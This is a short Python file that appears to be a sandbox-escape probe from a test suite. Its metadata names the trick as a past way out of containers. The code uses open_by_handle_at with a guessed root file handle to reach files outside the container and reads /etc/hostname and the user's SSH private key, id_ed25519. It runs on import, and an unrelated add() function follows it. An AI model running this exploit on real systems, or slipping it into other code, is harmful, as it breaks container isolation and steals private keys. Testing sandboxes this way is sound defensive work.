#: title = "Opens a file by its handle instead of its name"
#: why = "The way in which a container was once left: handles know nothing of mount points."
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
for anchor, path in (("@HOME@", b"@HOME@/.ssh/id_ed25519"), ("/", b"/etc/hostname"), (".", b".")):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0)
    try:
        place = os.open(anchor, os.O_RDONLY)
    except OSError:
        continue
    for guess in (handle.raw, struct.pack("Iiq", 8, 1, 2).ljust(136, b"\0")):
        fd = libc.open_by_handle_at(place, guess, 0)
        if fd >= 0:
            try:
                boast(os.read(fd, 4096).decode("latin-1"))
            except OSError:
                try:
                    key = os.open("@HOME@/.ssh/id_ed25519".lstrip("/"), os.O_RDONLY, dir_fd=fd)
                    boast(os.read(key, 4096).decode("latin-1"))
                except OSError:
                    pass


def add(a, b):
    return a + b
